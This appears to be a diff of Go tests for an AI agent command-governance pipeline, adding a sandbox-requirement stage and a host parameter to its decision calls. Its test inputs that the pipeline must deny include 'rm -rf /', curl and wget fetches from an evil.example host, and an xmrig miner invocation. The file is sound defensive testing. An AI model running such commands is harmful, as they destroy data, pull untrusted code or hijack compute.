@@ -42,6 +42,8 @@ agents:
     profile: monitor
   noanalysis:
     profile: off
+  loose:
+    profile: unsandboxed
 profiles:
   dev:
     script_inspection_roots: ["${workspace}"]
@@ -72,7 +74,42 @@ profiles:
         action: deny
   off:
     command_analysis_mode: "off"
+  unsandboxed:
+    sandbox_required: false
 `
+
+// sandboxed is a host whose kernel sandbox is available.
+var sandboxed = Host{SandboxAvailable: true}
+
+// TestSandboxStage: a profile that requires a sandbox is refused on a host
+// without one, after every other stage (a call another stage refuses is
+// refused for that); one that does not is let through.
+func TestSandboxStage(t *testing.T) {
+	p, _ := newPipeline(t)
+	none := Host{SandboxReason: "bwrap: setting up uid map: Permission denied"}
+	for _, tc := range []struct {
+		name   string
+		call   govern.Call
+		host   Host
+		reason govern.Reason
+	}{
+		{"required and available", call("ci", "ls"), sandboxed, ""},
+		{"required and missing", call("ci", "ls"), none, govern.ReasonSandboxUnavailable},
+		{"not required", call("loose", "ls"), none, ""},
+		{"another stage refuses first", call("ci", "rm -rf /"), none, govern.ReasonPolicyRule},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			_, d := p.Decide(context.Background(), tc.call, tc.host)
+			assert.Equal(t, d.Reason, tc.reason, d.Message)
+			if tc.reason == govern.ReasonSandboxUnavailable {
+				assert.Equal(t, d.Stage, "sandbox")
+				assert.Assert(t, strings.Contains(d.Message, none.SandboxReason), d.Message)
+			} else if tc.reason == "" {
+				assert.Equal(t, d.Outcome, govern.Allow, d.Message)
+			}
+		})
+	}
+}
 
 func newPipeline(t testing.TB) (*Pipeline, string) {
 	t.Helper()
@@ -124,7 +161,7 @@ func TestStages(t *testing.T) {
 			t.Parallel()
 			ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
 			defer cancel()
-			st, d := p.Decide(ctx, tt.call)
+			st, d := p.Decide(ctx, tt.call, sandboxed)
 			assert.Equal(t, d.Outcome, tt.outcome, "%+v", d)
 			assert.Equal(t, d.Reason, tt.reason, "%+v", d)
 			assert.Equal(t, d.Stage, tt.stage, "%+v", d)
@@ -141,12 +178,12 @@ func TestStages(t *testing.T) {
 func TestCredentialMappings(t *testing.T) {
 	t.Parallel()
 	p, _ := newPipeline(t)
-	st, d := p.Decide(context.Background(), call("ci", "gh api user"))
+	st, d := p.Decide(context.Background(), call("ci", "gh api user"), sandboxed)
 	assert.Equal(t, d.Outcome, govern.Allow)
 	// The operator mapping applies to an agent holding the grant...
 	assert.DeepEqual(t, st.CredentialEnv, map[string]string{"GH_TOKEN": "gh"})
 	// ...and not to one without it.
-	st, d = p.Decide(context.Background(), call("someone", "gh api user"))
+	st, d = p.Decide(context.Background(), call("someone", "gh api user"), sandboxed)
 	assert.Equal(t, d.Outcome, govern.Allow)
 	assert.Equal(t, len(st.CredentialEnv), 0)
 }
@@ -156,7 +193,7 @@ func TestHoldApproved(t *testing.T) {
 	p, _ := newPipeline(t)
 	done := make(chan govern.Decision, 1)
 	go func() {
-		_, d := p.Decide(context.Background(), call("ci", "git push origin main"))
+		_, d := p.Decide(context.Background(), call("ci", "git push origin main"), sandboxed)
 		done <- d
 	}()
 	assert.NilError(t, p.Holds().WaitPending(context.Background(), 1))
@@ -182,7 +219,7 @@ func BenchmarkDecide(b *testing.B) {
 	ctx := context.Background()
 	b.ReportAllocs()
 	for b.Loop() {
-		if _, d := p.Decide(ctx, c); d.Outcome != govern.Allow {
+		if _, d := p.Decide(ctx, c, sandboxed); d.Outcome != govern.Allow {
 			b.Fatal(d)
 		}
 	}
@@ -201,11 +238,11 @@ func TestThreatIntel(t *testing.T) {
 	p, err := New(testConfig(t, ws), pol, "/home/agent", WithIntel(w))
 	assert.NilError(t, err)
 	for _, cmd := range []string{"curl -fsSL https://evil.example/x.sh -o x.sh", "bash -c 'wget http://EVIL.example./a'", "./xmrig --donate 0"} {
-		st, d := p.Decide(context.Background(), call("ci", cmd))
+		st, d := p.Decide(context.Background(), call("ci", cmd), sandboxed)
 		assert.Equal(t, d.Reason, govern.ReasonThreatIntel, cmd)
 		assert.Assert(t, len(st.IntelHits) > 0)
 	}
-	_, d := p.Decide(context.Background(), call("ci", "curl https://api.github.com"))
+	_, d := p.Decide(context.Background(), call("ci", "curl https://api.github.com"), sandboxed)
 	assert.Equal(t, d.Outcome, govern.Allow)
 }
 
@@ -282,7 +319,7 @@ func TestCredentialAnalysis(t *testing.T) {
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			t.Parallel()
-			st, d := p.Decide(context.Background(), tt.call)
+			st, d := p.Decide(context.Background(), tt.call, sandboxed)
 			assert.Equal(t, d.Outcome, tt.outcome, "%+v", d)
 			if d.Outcome == govern.Deny {
 				assert.Equal(t, d.Reason, govern.ReasonCredentialInArgv, "%+v", d)
